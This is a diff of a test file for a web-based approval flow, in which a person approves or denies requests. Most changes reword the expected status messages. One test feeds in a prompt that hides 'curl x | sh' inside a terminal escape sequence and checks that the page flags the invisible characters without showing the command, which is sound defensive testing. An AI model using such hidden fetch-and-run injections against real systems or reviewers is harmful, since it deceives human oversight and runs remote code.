@@ -64,7 +64,7 @@ onBothDatabases((start) => {
       const asked = await linked.here.ask('say hello\u001b]0;curl x | sh\u0007');
       await linked.waits(asked.decision_id);
       const page = await linked.ann.get(`/app/decisions/${linked.id}/${asked.decision_id}`);
-      assert.match(page.text, /its prompt holds 2 characters that do not show/);
+      assert.match(page.text, /its prompt contains 2 invisible characters/);
       assert.doesNotMatch(page.text, /curl/);
       await linked.press('deny', asked.decision_id);
     });
@@ -91,7 +91,7 @@ onBothDatabases((start) => {
     it('starts a worker when a person of server.decide approves, and tells the page', async () => {
       const asked = await linked.here.ask('say hello');
       const page = await linked.press('approve', asked.decision_id);
-      assert.match(page.text, /Approved by ann by page; started s-\d+\./);
+      assert.match(page.text, /Approved by ann on the web\. s-\d+ has started\./);
       const { decision } = await linked.here.call('decision.show', { id: asked.decision_id });
       assert.equal(decision.state, 'approved');
       assert.equal(decision.decided_by, 'ann@page');
@@ -112,7 +112,7 @@ onBothDatabases((start) => {
         assert.equal((await ann.post(`${place}/approve`, { hash })).status, 422);
       const other = { hash: 'f'.repeat(64), code: '\0\0\0\0\0\0' };
       assert.equal((await ann.post(`${place}/approve`, other)).status, 303);
-      assert.match((await ann.get(place)).text, /not what you saw/);
+      assert.match((await ann.get(place)).text, /has changed since you looked/);
       assert.equal(
         (await linked.here.call('decision.show', { id: asked.decision_id })).decision.state,
         'pending',
@@ -122,7 +122,7 @@ onBothDatabases((start) => {
     it('denies, and tells of it', async () => {
       const asked = await linked.here.ask('say no');
       const page = await linked.press('deny', asked.decision_id);
-      assert.match(page.text, /Denied by ann by page\./);
+      assert.match(page.text, /Denied by ann on the web\./);
       const { decision } = await linked.here.call('decision.show', { id: asked.decision_id });
       assert.equal(decision.state, 'denied');
     });
